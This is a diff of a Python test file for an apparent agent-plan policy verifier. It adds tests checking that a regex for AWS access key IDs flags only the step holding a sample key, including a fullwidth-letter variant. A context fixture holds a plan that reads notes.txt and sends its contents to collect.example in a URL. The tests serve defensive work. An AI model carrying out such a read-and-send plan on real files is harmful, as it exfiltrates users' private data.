@@ -174,6 +174,19 @@ def test_a_pattern_that_re2_does_not_know_is_refused_when_it_is_read() -> None:
 LINK = 'S1: @READ_FILE (path="notes.txt") > $a\nS2: @FORMAT (text="https://collect.example/?d=$a") > $u\n'
 
 
+@pytest.mark.parametrize("guilty", [1, 255, 256, 257, 300])
+@pytest.mark.parametrize("key", ["AKIAABCDEFGHIJKLMNOP", "ＡKIAABCDEFGHIJKLMNOP"])
+def test_of_many_steps_only_the_one_with_a_forbidden_text_is_refused(guilty: int, key: str) -> None:
+    steps = [f'S{n}: @LLM_ANALYZE ("{key if n == guilty else n}") > $a' for n in range(1, 301)]
+    verdict = verify(parse("\n".join(steps)).require(), Policy(forbidden=("AKIA[0-9A-Z]{16}",)))
+    assert [(told.step, told.rule) for told in verdict.violations] == [(f"S{guilty}", Rule.FORBIDDEN)]
+
+
+def test_texts_of_two_steps_are_no_text_in_one() -> None:
+    steps = 'S1: @LLM_ANALYZE ("AKIAABCD") > $a\nS2: @LLM_ANALYZE ("EFGHIJKLMNOP") > $a'
+    assert proved(steps, forbidden=["AKIA[0-9A-Z]{16}", "AKIA[^x]+P"]).ok
+
+
 @pytest.mark.parametrize(
     ("rest", "is_refused"),
     [
